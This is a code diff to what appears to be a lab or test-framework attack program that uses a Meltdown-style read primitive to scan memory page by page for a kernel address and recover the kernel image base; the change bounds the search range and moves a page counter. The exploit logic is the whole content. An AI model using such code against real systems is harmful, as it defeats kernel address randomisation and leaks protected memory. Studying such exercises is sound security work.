@@ -13,6 +13,7 @@
 static struct {
 	uint8_t carry[8];
 	uint8_t page[BW_PAGE_SIZE];
+	unsigned long nr_read;
 } window;
 
 static bool is_telling(uint64_t value, const struct bw_leak *leak)
@@ -29,6 +30,7 @@ static void read_page(uint64_t address)
 		attack_check("vuln_meltdown", bw_vuln_meltdown(address + offset, &word));
 		memcpy(window.page + offset, &word, sizeof(word));
 	}
+	window.nr_read++;
 }
 
 /* The offset of an address of the kernel in the page, at any byte; -1: there is none. */
@@ -45,19 +47,17 @@ static long find_in_page(const struct bw_leak *leak, uint64_t *value)
 	return -1;
 }
 
-/* Page by page from an address up; true where one told something. */
-static bool search(uint64_t address, const struct bw_leak *leak)
+/* Page by page from an address up to another, 0 for the end; true where one told something. */
+static bool search(uint64_t address, uint64_t end, const struct bw_leak *leak)
 {
-	unsigned long nr_pages = 0;
 	uint64_t found, value;
 	long status, offset;
 
-	while ((status = bw_vuln_probe(address, &found)) == 0) {
+	while ((status = bw_vuln_probe(address, &found)) == 0 && found <= end - 1) {
 		if (found != address) {
 			memset(window.carry, 0, sizeof(window.carry));
 		}
 		read_page(found);
-		nr_pages++;
 		offset = find_in_page(leak, &value);
 		if (offset >= 0) {
 			attack_say("0x%lx holds 0x%lx", found + (uint64_t)offset, value);
@@ -65,12 +65,11 @@ static bool search(uint64_t address, const struct bw_leak *leak)
 		}
 		memcpy(window.carry, window.page + BW_PAGE_SIZE - 8, sizeof(window.carry));
 		address = found + BW_PAGE_SIZE;
-		if (address == 0) {
+		if (address == end) {
 			break;
 		}
 	}
 	attack_check("vuln_probe", status);
-	attack_say("%lu pages, no address of the kernel in them", nr_pages);
 	return false;
 }
 
@@ -84,8 +83,10 @@ int main(void)
 	 * leak stands for what an attacker knows of the image's layout, to tell the base by one
 	 * address in it.
 	 */
-	if (search(ENTRY_AREA, &leak) || search(0, &leak)) {
+	if (search(ENTRY_AREA, 0, &leak) || search(0, ENTRY_AREA, &leak)) {
 		attack_check("base_prove", bw_base_prove(leak.image_base));
+	} else {
+		attack_say("%lu pages, no address of the kernel in them", window.nr_read);
 	}
 	return attack_finish();
 }
